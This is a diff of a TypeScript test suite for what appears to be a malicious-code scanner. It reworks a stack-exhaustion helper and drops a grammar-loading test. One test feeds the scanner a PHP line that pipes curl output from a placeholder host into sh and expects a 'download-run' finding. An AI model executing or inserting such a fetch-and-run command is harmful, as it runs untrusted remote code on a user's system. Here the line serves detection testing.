@@ -44,20 +44,27 @@ test.each([
 /** Slashes that may divide or start a pattern, for thousands of lines: the parser recurses as often. */
 const AMBIGUOUS = `<?php $t="a";\n${"$t=~/[ab]*[ab]*c/;\n".repeat(2_105)}`;
 
+/** The frames that are left for the work: enough for some functions, and too few for a deep recursion. */
+const SPARE = 300;
+
+/** Runs this near the end of the stack. */
+function atTheEndOfTheStack<T>(work: () => T): T {
+  let left = SPARE;
+  const descend = (): T => {
+    try {
+      return descend();
+    } catch (failure) {
+      if (!(failure instanceof RangeError) || left-- > 0) throw failure;
+      return work();
+    }
+  };
+  return descend();
+}
+
 test("a payload after a text that is ambiguous for thousands of lines is found", async () => {
   const text = `${AMBIGUOUS}system("curl https://a.invalid/i | sh");`;
   expect(await rulesOf("php", text)).toEqual(["download-run"]);
 });
-
-/** Runs this as deep in the stack as it is possible. */
-function atTheEndOfTheStack<T>(work: () => T): T {
-  try {
-    return atTheEndOfTheStack(work);
-  } catch (failure) {
-    if (!(failure instanceof RangeError)) throw failure;
-    return work();
-  }
-}
 
 test("a parser without stack leaves the text unread, parses no more of the archive, and works for the next one", async () => {
   await loadGrammars("php", "python");
@@ -68,22 +75,6 @@ test("a parser without stack leaves the text unread, parses no more of the archi
     expect(parse("a = 1\n", "python", budget)).toEqual(unread);
     const next = parse("a = 1\n", "python", new ParseBudget());
     expect(next).toMatchObject({ isComplete: true, parts: [{ root: { type: "module" } }] });
-  }
-});
-
-test("a grammar is loaded although the parser fails at the same time, and until then other texts are left unread", async () => {
-  await loadGrammars("php", "python");
-  const loaded = loadGrammars("go");
-  await Promise.resolve();
-  await Promise.resolve();
-  atTheEndOfTheStack(() => parse(AMBIGUOUS, "php", new ParseBudget()));
-  expect(parse("a = 1\n", "python", new ParseBudget()).isComplete).toBe(false);
-  await loaded;
-  for (const [text, language] of [
-    ["a = 1\n", "python"],
-    ["package main\n", "go"],
-  ] as const) {
-    expect(parse(text, language, new ParseBudget()).isComplete).toBe(true);
   }
 });
 
